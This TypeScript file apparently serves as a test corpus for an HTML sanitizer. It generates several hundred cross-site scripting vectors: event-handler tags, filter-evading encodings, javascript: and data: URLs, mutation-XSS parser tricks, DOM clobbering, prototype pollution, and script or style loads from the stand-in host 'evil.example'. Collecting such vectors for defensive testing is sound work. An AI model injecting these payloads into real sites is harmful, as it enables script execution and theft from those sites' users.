/**
 * Texts that run a script, ask another host or go away where they come into a page as markup, a link, an attribute or
 * a script: several hundred, put together as the public collections of such texts are.
 */
const RUN = 'alert(1)';
const ELSEWHERE = '//evil.example';

/** Elements with an event that comes by itself, or with the first touch. */
const EVENTS: [element: string, event: string][] = [
  ...(
    ['img src=x', 'image src=x', 'video src=x', 'audio src=x', 'script src=x', 'object data=x'] as const
  ).map((element): [string, string] => [element, 'onerror']),
  ['video><source', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=/', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/x.css', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['p', 'onmouseover'],
  ['div style=position:fixed;inset:0', 'onpointerenter'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['style>@keyframes x{}</style><b style="animation-name:x"', 'onanimationstart'],
  ['input onblur=1 autofocus><input autofocus', 'onfocus'],
  ['dialog open', 'onclose'],
  ['form><input type=image src=x', 'onerror'],
];
/** How they are written, so that a filter which looks for one way misses another. */
const WRITTEN: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${RUN}>`,
  (element, event) => `<${element} ${event}="${RUN}">`,
  (element, event) => `"><${element} ${event}='${RUN}'>`,
  (element, event) => `'><${element.toUpperCase()} ${event.toUpperCase()}=alert&#40;1&#41;>`,
  (element, event) => `<${element.replaceAll(' ', '/')}/${event}=${RUN}//`,
  (element, event) => `</title></textarea></style></script><${element}\n${event}\n=\n${RUN}\n>`,
  (element, event) => `<<${element} ${event}=window['al'+'ert'](1)>`,
  (element, event) => `--><${element} ${event}=(alert)(1)>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://a.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `${ELSEWHERE}/`,
  `https:${ELSEWHERE}/`,
  '\\\\evil.example\\',
  '/\\evil.example/',
];
const LINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}" id=clobbered>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) =>
    `<base href="${address}"><form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a><use href="${address}"/></svg>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `[x](${address})`,
  (address) => address,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}//-->`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<ScRiPt\u00a0src=${ELSEWHERE}/x.js>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<listing><img src=x onerror=${RUN}></listing>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  `<p style="background:url(${ELSEWHERE}/x.png)">`,
  `<img src="${ELSEWHERE}/x.png">`,
  `<link rel=prefetch href="${ELSEWHERE}/">`,
  `{{constructor.constructor("${RUN}")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself
  '${alert(1)}',
  "';alert(1)//",
  '";alert(1)//',
  '`;alert(1)//',
  '\\";alert(1)//',
  '\u2028alert(1)\u2029//',
  '<x id=clobbered name=body>',
  '<form id=clobbered><input name=body><input name=cookie></form>',
  '<a id=clobbered name=__proto__>',
  '<astro-island uid=clobbered component-url=//evil.example/x.js client=load ssr props={}>',
  `<template data-astro-template><img src=x onerror=${RUN}></template>`,
  `__proto__[x]=<img src=x onerror=${RUN}>`,
  '{"__proto__":{"x":1}}',
];

export const SCRIPT_VECTORS: readonly string[] = [
  ...SCRIPTS,
  ...EVENTS.flatMap(([element, event]) => WRITTEN.map((write) => write(element, event))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
];
